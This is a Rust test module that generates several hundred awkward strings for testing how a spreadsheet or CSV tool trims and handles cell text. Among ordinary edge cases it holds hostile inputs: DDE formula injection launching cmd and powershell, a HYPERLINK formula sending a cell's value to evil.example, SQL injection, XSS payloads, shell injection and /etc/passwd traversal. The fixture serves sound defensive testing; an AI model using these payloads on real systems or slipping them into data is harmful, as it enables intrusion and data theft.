//! Texts that programs trip over, written for these tests: several hundred, from lists of parts and how they are put
//! together.

/// Each once. None is empty or begins or ends with white space.
pub fn naughty_texts() -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    texts.extend(PLAIN.iter().map(|text| (*text).to_owned()));
    // What spreadsheets run, behind what may stand before it.
    for mark in ["", "'", "''", "\"", "x", "0"] {
        for formula in FORMULAS {
            texts.push(format!("{mark}{formula}"));
        }
    }
    // Each character that files give a meaning, at each place.
    for character in MEANING {
        texts.extend([format!("a{character}b"), format!("{character}b"), format!("a{character}")]);
        texts.push(format!("a{character}{character}b"));
        texts.push(format!("\"{character}\"x"));
    }
    // Control characters inside, all of them.
    for code in (0x00..0x20).chain(0x7f..0xa0) {
        texts.extend(char::from_u32(code).map(|character| format!("a{character}b")));
    }
    // What the escapes of workbooks make of neighbours.
    for code in ["0000", "000D", "0041", "005F", "d83c", "FFFF"] {
        for end in ["_", "", "\u{b}", "__", "_x0041_"] {
            texts.push(format!("_x{code}{end}z"));
        }
    }
    for text in &mut texts {
        *text = galena::domain::text::trim_cell(text).to_owned();
    }
    let mut seen = std::collections::HashSet::new();
    texts.retain(|text| !text.is_empty() && seen.insert(text.clone()));
    texts
}

const FORMULAS: [&str; 14] = [
    "=1+1",
    "=SUM(A1:A9)",
    "+1+cmd|' /C notepad'!A1",
    "-3+cmd|' /C notepad'!A1",
    "@SUM(1+2)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=cmd|'/C powershell'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=-1",
    "=",
    "@",
    "+",
    "-",
];

const MEANING: [&str; 22] = [
    ",", ";", "\t", "|", ":", "^", "~", "#", "\"", "'", "`", "\\", "/", "\n", "\r", "\r\n", "&", "<", ">", "%",
    "\u{2028}", "\u{feff}",
];

const PLAIN: &[&str] = &[
    // words that are values somewhere
    "null",
    "NULL",
    "nil",
    "None",
    "undefined",
    "undef",
    "true",
    "TRUE",
    "False",
    "yes",
    "NaN",
    "Infinity",
    "-Infinity",
    "#N/A",
    "#REF!",
    "#VALUE!",
    "#DIV/0!",
    "(null)",
    "\\N",
    "[object Object]",
    "N/A",
    "n.a.",
    "--",
    "...",
    // numbers that are texts
    "0",
    "00",
    "007",
    "01067",
    "1e5",
    "1E309",
    "0x1F",
    "1,000.00",
    "1.000,00",
    "1/2",
    "3-4",
    "2026-02-30",
    "31.12.2026",
    "12:30",
    "123456789012345678901234567890",
    "0.1e-400",
    "+49 30 1234567",
    "(0)30/1234",
    "-5",
    "+",
    "1_000",
    "٣٤٥",
    "½",
    "²",
    "Ⅳ",
    "1\u{a0}000",
    "１２３",
    // names of people and companies
    "O'Brien",
    "D’Angelo",
    "'s-Hertogenbosch",
    "Jean–Luc",
    "Null",
    "Nguyễn Thị Hồng",
    "Łukasz Żółć",
    "Zoë",
    "Þór",
    "Ðuro",
    "İstanbul",
    "Straße",
    "STRASSE",
    "ﬁlter",
    "ﷺ",
    "Ⅷ GmbH",
    "AT&T",
    "<b>Bold</b> Ltd",
    "P&amp;G",
    "C++",
    "C#",
    "Yahoo!",
    "7-Eleven",
    "Toys \"R\" Us",
    "3M",
    "100% Pure",
    "a/b & c\\d",
    "Smith, John",
    "Müller; Söhne",
    "X Æ A-12",
    // scripts
    "山田太郎",
    "やまだ",
    "ヤマダ",
    "ﾔﾏﾀﾞ",
    "김철수",
    "Иван Петров",
    "Αλέξανδρος",
    "محمد بن علي",
    "שלום",
    "अनिल कुमार",
    "สมชาย",
    "தமிழ்",
    "ქართული",
    "ᚠᚢᚦ",
    "𠜎𠜱",
    "𝕲𝖆𝖑𝖊𝖓𝖆",
    "Ｇａｌｅｎａ",
    "ʇxǝʇ",
    "Z̷a̵l̶g̴o̸",
    "e\u{301}cole",
    "A\u{30a}ngstro\u{308}m",
    // emoji
    "🧪",
    "👩‍👩‍👧‍👦",
    "👍🏽",
    "🇩🇪",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "❤️",
    "1️⃣",
    "a🧪b🧪",
    // what cannot be seen
    "a\u{200b}b",
    "a\u{200d}b",
    "a\u{2060}b",
    "a\u{ad}b",
    "a\u{202e}cba\u{202c}d",
    "a\u{2066}x\u{2069}b",
    "a\u{feff}b",
    "a\u{a0}b",
    "a\u{3000}b",
    "a\u{2003}b",
    "a\u{fffd}b",
    "a\u{fffe}b",
    "a\u{ffff}b",
    "a\u{e000}b",
    "a\u{10ffff}b",
    "a\u{1fffe}b",
    "\0",
    "a\0",
    "\0b",
    "\0\0",
    "a\u{85}b",
    "a\u{2029}b",
    // many lines
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    "one\n\n\ntwo",
    "one\n\"two\"\nthree",
    "a\n=1+1",
    "a\r\n,b",
    "\"\n\"",
    "x\n'",
    // quotes
    "\"",
    "\"\"",
    "\"\"\"",
    "'",
    "''",
    "'''",
    "\"a\"",
    "'a'",
    "a\"b\"c",
    "\\\"",
    "a\\\"b",
    "`a`",
    "“a”",
    "«a»",
    "a\"",
    "'a",
    "\"a",
    "a'",
    "\"\\\"",
    "\"'\"'\"",
    // injections of other kinds
    "' OR 1=1 --",
    "'; DROP TABLE leads; --",
    "\" OR \"\"=\"",
    "admin'--",
    "1; SELECT 1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\"><svg/onload=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(id)",
    "`id`",
    "| id",
    "; id",
    "&& id",
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "%00",
    "%0d%0aX: y",
    "\\u0000",
    "\\x00",
    "%s%n%d",
    "{0}",
    "{}",
    "[]",
    "{\"a\":1}",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x>",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;",
    "&#0;",
    "&#x41;",
    "&nbsp;",
    "<!-- x -->",
    "--><",
    "=?UTF-8?Q?x?=",
    "http://a.example/?a=b&c=d",
    "mailto:a@b.example",
    "file:///etc/passwd",
    "\\\\host\\share",
    "CON",
    "LPT1",
    "aux.txt",
    ".",
    "..",
    "~",
    "*",
    "?",
    // marks of files
    "sep=;",
    "SEP=,",
    "#!/bin/sh",
    "%PDF-1.7",
    "PK\u{3}\u{4}",
    "ï»¿x",
    "a;b;c;d",
    "a,b,c,d",
    "a|b|c|d",
    "a\tb\tc",
    "email",
    "email,name",
    "email;name",
    "Rejected Line",
    "_x",
    "_x_",
    "_x00_",
    "_xZZZZ_",
    "_x0041_x0042_",
    "__x0041__",
    "_X0041_",
];

#[test]
fn there_are_hundreds_of_them_and_none_has_white_space_around_it() {
    let texts = naughty_texts();
    println!("{} texts", texts.len());
    assert!(texts.len() >= 500);
    assert!(texts.iter().all(|text| galena::domain::text::trim_cell(text) == text && !text.is_empty()));
}
